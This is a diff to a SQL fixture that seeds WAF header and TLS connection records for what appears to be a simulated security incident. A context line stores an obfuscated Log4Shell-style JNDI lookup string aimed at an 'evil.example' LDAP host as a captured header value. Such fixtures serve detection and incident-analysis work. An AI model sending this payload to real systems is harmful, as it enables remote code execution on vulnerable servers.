@@ -277,3 +277,12 @@ VALUES (3, 301, 1, 1, '2026-11-01 10:04:50', v4('198.51.100.7'), false);
 INSERT INTO store.waf_header_context (context_id, capture, header) VALUES (1, 'incident', 'x-api-version');
 INSERT INTO store.waf_header (object_id, row_no, context_id, header_no, timestamp, value, utf8_escaped)
 VALUES (3, 302, 1, 1, '2026-11-01 10:05:01', '${${::-j}ndi:ldap://c2.evil.example/a}', false);
+
+-- tls: one connection, and one that failed
+
+INSERT INTO store.tls_context (context_id, capture, format, elb, tls_protocol, tls_verify_status) VALUES
+  (1, 'incident', 'nlb', 'net/web/1', 'tlsv13', NULL), (2, 'incident', 'alb_connection', 'app/web/1', NULL, 'Failed:ClientCertUntrusted');
+INSERT INTO store.tls (object_id, row_no, context_id, time, client4, client_port, destination4, destination_port, tls_handshake_us,
+  received_bytes, sent_bytes, domain_name, utf8_escaped) VALUES
+  (3, 401, 1, '2026-11-01 10:04:59', v4('198.51.100.7'), 40001, v4('10.0.1.9'), 443, 2000, 98, 246, 'www.corp.example', false),
+  (3, 402, 2, '2026-11-01 10:04:40', v4('198.51.100.7'), 40000, v4('10.0.1.9'), 443, NULL, NULL, NULL, NULL, false);
